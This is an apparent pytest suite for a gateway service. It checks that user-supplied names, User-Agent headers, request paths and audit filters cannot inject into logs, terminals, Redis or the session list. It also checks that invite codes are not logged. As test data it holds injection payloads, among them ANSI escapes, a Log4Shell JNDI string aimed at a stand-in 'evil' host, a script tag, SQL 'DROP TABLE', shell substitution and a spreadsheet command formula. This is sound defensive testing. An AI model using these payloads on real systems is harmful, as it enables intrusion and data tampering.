"""Injection by users' texts into lists, logs, terminals and Redis. CWE-117, CWE-150, CWE-74; CVE-2021-42574.

OWASP Logging Cheat Sheet, "Event collection"; OWASP ASVS 5, 16.4.1.
"""

from __future__ import annotations

import json
import logging
import socket
import unicodedata
from urllib.parse import quote

import pytest

from gateway.logs import _Console, _Json, path_to_log
from tests.e2e.checks import assert_problem
from tests.servers import HOST, Installation, wait_until

PASSWORD = "plenty of good words, none common"

AGENTS = {
    "ANSI": b"\x1b[2J\x1b[31mroot\x1b]0;title\x07",
    "quotes": b'","current":true,"agent":"x',
    "markup": b"<script>alert(1)</script>[link=http://evil]x[/link]",
    "format": b"%s%n{0}{request_id}${jndi:ldap://evil/x}",  # CVE-2021-44228
    "bidi": "\u202egnirts\u2066".encode(),
    "latin": b"\xff\xfe\x80",
    "long": b"A" * 5000,
    "tab": b"a\tb",
}


@pytest.mark.parametrize("kind", AGENTS)
def test_user_agent_is_shown_as_plain_text_of_bounded_length(target: Installation, kind: str) -> None:
    body = json.dumps({"username": "mira", "password": target.passwords["mira"]}).encode()
    head = f"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: {len(body)}\r\n".encode()
    head += b"Content-Type: application/json\r\nUser-Agent: " + AGENTS[kind] + b"\r\n\r\n"
    with socket.create_connection((HOST, target.port), timeout=10) as link:
        link.sendall(head + body)
        said = b"".join(iter(lambda: link.recv(65536), b""))
    if said.startswith(b"HTTP/1.1 400"):
        return  # the server's own parser refuses control characters (RFC 9110 section 5.5)
    login = json.loads(said.partition(b"\r\n\r\n")[2])
    with target.client(login["access_token"]) as client:
        shown = client.get("/api/auth/sessions").json()["sessions"]
    mine = next(one for one in shown if one["id"] == login["session_id"])
    assert len(mine["agent"]) <= 120
    assert all(" " <= char <= "~" for char in mine["agent"])
    assert sum(one["current"] for one in shown) == 1


def test_user_agent_cannot_control_a_terminal(target: Installation) -> None:
    for agent in AGENTS.values():
        body = {"username": "mira", "password": target.passwords["mira"]}
        with target.client() as client:
            client.post("/api/auth/login", json=body, headers={b"User-Agent": agent.replace(b"\x1b", b"\x9b")})
    printed = target.command("users", "sessions", "mira").stdout
    assert not {"\x1b", "\x9b", "\u202e"} & set(printed)
    assert "jndi" in target.command("users", "sessions", "mira", "--json").stdout  # shown as plain text


# Names with a meaning to Redis, JSON, SQL, shells, terminals, markup or spreadsheets are treated only as names.
TELLING = [
    'a"}{b', "x'; DROP TABLE users;--", "$(id)`id`", "[red]x[red]", "[bold]xx", "u:1:{x}", "%0d%0aSET", "<b>x<b>",
    "[red]x[/red]", "KEYS[1]", "=cmd|x!A0", "__proto__", "*", "***",
]  # fmt: skip


def test_special_characters_in_names_have_no_effect(target: Installation) -> None:
    with target.client_of("ada") as admin:
        with target.valkey.client() as client:
            keys = client.dbsize()
        for name in TELLING:
            body = {"username": name, "password": PASSWORD, "roles": ["member"]}
            answer = admin.post("/api/admin/users", json=body)
            if {" ", "/"} & set(name) or len(name) < 3:
                assert_problem(answer, 400, "invalid_request", field="username")
                continue
            assert answer.status_code == 201, (name, answer.text)
            assert answer.json()["user"]["username"] == name
            login = {"username": name, "password": PASSWORD}
            with target.client() as client_of_name:
                assert client_of_name.post("/api/auth/login", json=login).json()["user"]["username"] == name
            found = admin.get("/api/admin/users", params={"name": name}).json()["users"]
            assert name in [one["username"] for one in found]
        with target.valkey.client() as client:
            assert client.dbsize() > keys  # nothing was flushed
        for command in (("users", "list"), ("usage", "show"), ("audit", "tail", "--lines", "200")):
            done = target.command(*command)
            assert done.returncode == 0, done.stderr
            assert "\x1b" not in done.stdout
            assert "[red]x[red]" in done.stdout or command[0] != "users"


@pytest.mark.parametrize(
    "name",
    ["ada\u200b", "a\u200dda", "ada\u2060", "ada\ufeff", "\u202eada", "ad\u00ada", "ada\u3164", "ada\u115f",
     "ada\uffa0", "ada\u2800", "ada\ufe0f", "ada\u034f", "ada\u180b", "ada\U000e0101", "ada\U000e0061", "ada ",
     "a\u00a0da", "ada\u2028", "ada\n", "ada\x00", "ada\x7f", "\ufdfaada", "ada\ue000", "ada\U0010ffff"],
    ids=ascii,
)  # fmt: skip
def test_name_with_invisible_characters_is_refused(target: Installation, name: str) -> None:
    """CWE-1007; UTS 39 section 3: default ignorable, control, format and private characters, and spaces."""
    with target.client_of("ada") as admin:
        answer = admin.post("/api/admin/users", json={"username": name, "password": PASSWORD, "roles": ["member"]})
    assert answer.status_code in (400, 409), name  # 409: without invisible characters it is ada's


@pytest.mark.parametrize(
    ("name", "status"),
    [("\ufb03" * 21, 201), ("\ufb03" * 22, 400), ("\u00df" * 32, 201), ("\u00df" * 33, 400), ("\u0130" * 33, 400),
     ("\u0390" * 22, 201), ("\ufdfb" * 4, 400), ("x" * 65, 400)],
    ids=ascii,
)  # fmt: skip
def test_length_of_a_name_is_that_of_its_compared_form(target: Installation, name: str, status: int) -> None:
    """CWE-1289, UAX 15 section 4: folding and compatibility forms make texts up to eighteen times longer."""
    with target.client_of("ada") as admin:
        body = {"username": name, "password": PASSWORD, "roles": ["member"]}
        answer = admin.post("/api/admin/users", json=body)
    assert answer.status_code in (status, 409), answer.text


@pytest.mark.parametrize("spelling", ["HANNA", "\uff28anna", "h\u1d43nna", "ha\u207fna", "Hanna"])
def test_other_spelling_of_a_name_is_the_same_name(target: Installation, spelling: str) -> None:
    """CWE-178."""
    with target.client_of("ada") as admin:
        body = {"username": spelling, "password": PASSWORD, "roles": ["member"]}
        assert_problem(admin.post("/api/admin/users", json=body), 409, "user_exists")


TURNING = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]


INVISIBLE = ["\ufeff", "\u115f", "\u200b", "\U000e0061", "\ufdd0", "\ue000"]
CONTROL = ["\x1b", "\x07", "\x9b", "\r", "\n", "\x00", "\u2028", "\u2029"]


@pytest.mark.parametrize("char", [*TURNING, *INVISIBLE, *CONTROL], ids=ascii)
def test_texts_cannot_reorder_lines_or_control_terminals(target: Installation, char: str) -> None:
    """Display names, names and descriptions of rooms and an operator's reasons are shown to other users."""
    text = f"a{char}b"
    with target.client_of("olga") as omni:
        for method, path, body, field in (
            ("PATCH", "/api/admin/users/mira", {"display_name": text}, "display_name"),
            ("POST", "/api/rooms", {"name": text}, "name"),
            ("POST", "/api/rooms", {"description": text}, "description"),
        ):
            assert_problem(omni.request(method, path, json=body), 400, "invalid_request", field=field)
        if char not in TURNING:
            override = {"name": "api", "rate": "9/min", "burst": 9, "lasts_s": 1, "reason": text}
            answer = omni.put("/api/admin/limits/mira/override", json=override)
            assert_problem(answer, 400, "invalid_request", field="reason")


def test_audit_filters_are_words_not_patterns(target: Installation) -> None:
    """CWE-943: filter values are compared, never interpreted."""
    with target.client_of("ada") as admin:
        for user in ("*", "u*", '","by":"cli', "u\x00", ".*"):
            answer = admin.get("/api/admin/audit", params={"user": user})
            assert_problem(answer, 400, "invalid_request", field="user")
        assert admin.get("/api/admin/audit", params={"user": "u" + "a" * 20}).json()["items"] == []
        for action in ("*", "log*", "login|user", "LOGIN", "login\x00", "../login", "login%"):
            answer = admin.get("/api/admin/audit", params={"action": action})
            assert_problem(answer, 400, "invalid_request", field="action")
        for place in ("0-0", "+", "(0-1", "$", "1-1 COUNT 9"):
            answer = admin.get("/api/admin/audit", params={"cursor": place})
            assert_problem(answer, 400, "invalid_request", field="cursor")


def test_user_named_cli_does_not_hide_entries_of_the_command_line(target: Installation) -> None:
    """CWE-290: `by` is an id or `cli`; a user name equal to `cli` must not take precedence."""
    with target.client_of("ada") as admin:
        admin.post("/api/admin/users", json={"username": "cli", "password": PASSWORD, "roles": ["member"]})
        items = admin.get("/api/admin/audit", params={"user": "cli"}).json()["items"]
    assert items
    assert {item["by"] for item in items} == {"cli"}
    printed = target.command("audit", "tail", "--user", "cli", "--json").stdout
    assert {json.loads(line)["by"] for line in printed.splitlines()} == {"cli"}


def test_request_paths_cannot_forge_log_lines(target: Installation) -> None:
    """CWE-117: a line is one JSON object of plain ASCII, whatever the path contains."""
    position = len(target.gateway.output())
    forged = '\n{"time":"x","level":"error","message":"forged"}\r\n\x1b[31m\u202e'
    with target.client() as client:
        client.get("/" + quote(forged))
        client.get("/api/rooms/" + quote(forged, safe=""))
        client.post("/api/auth/login", json={"username": forged, "password": forged})
    wait_until(lambda: target.gateway.output()[position:].count("forged") >= 2, "the lines are written")
    text = target.gateway.output()[position:]
    lines = [json.loads(line) for line in text.splitlines()]
    assert text.isascii()
    assert "\x1b" not in text
    assert not [line for line in lines if line["message"] == "forged"]
    assert len([line for line in lines if "forged" in line.get("path", "")]) == 2


@pytest.mark.parametrize("formatter", [_Json(), _Console()], ids=["json", "console"])
def test_log_lines_of_both_formats_are_single_lines(formatter: logging.Formatter) -> None:
    record = logging.LogRecord("x", logging.INFO, "x", 1, "said %s", ("a\nb\x1b[2J\u202e\u2028\x9b31m",), None)
    record.fields = {"path": "/a\r\nb\x1b]0;t\x07\u2066"}
    line = formatter.format(record)
    assert len(line.splitlines()) == 1
    assert all(unicodedata.category(char)[0] != "C" and char not in TURNING for char in line)


@pytest.mark.parametrize(
    ("path", "logged"),
    [
        (f"/api/invites/{'a2' * 13}/accept", "/api/invites/(secret)/accept"),
        (f"/api/invites//{'b' * 26}", "/api/invites//(secret)"),
        ("/api/auth/sessions/eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.abc-_", "/api/auth/sessions/(secret)"),
        (f"/x/v1.u{'a' * 20}.{'0' * 20}.12.{'f' * 32}", "/x/(secret)"),
        (f"/x/gwk_{'a' * 12}_{'Z' * 38}", "/x/(secret)"),
        (f"/api/rooms/{'0123456789ab' * 2}/token", f"/api/rooms/{'0123456789ab' * 2}/token"),
        (f"/api/admin/users/u{'a' * 20}", f"/api/admin/users/u{'a' * 20}"),
    ],
)
def test_secrets_in_a_path_are_not_logged(path: str, logged: str) -> None:
    """CWE-532: an invite's code is part of its URL."""
    assert path_to_log(path) == logged


def test_code_of_an_invite_is_in_no_log_and_no_audit(target: Installation) -> None:
    position = len(target.gateway.output())
    with target.client_of("hanna") as host, target.client_of("mira") as member:
        room = host.post("/api/rooms", json={"access": "invited"}).json()["room"]["id"]
        code = host.post(f"/api/rooms/{room}/invites", json={}).json()["code"]
        assert member.post(f"/api/invites/{code}/accept", json={}).status_code == 200

    def logged() -> str:
        return target.gateway.output()[position:]

    wait_until(lambda: "/api/invites/(secret)/accept" in logged(), "the line is written, after the answer")
    assert code not in logged()
    with target.valkey.client() as client:
        assert code not in str(client.xrange("audit:1"))
        assert not [key for key in client.scan_iter("*") if code.encode() in key]
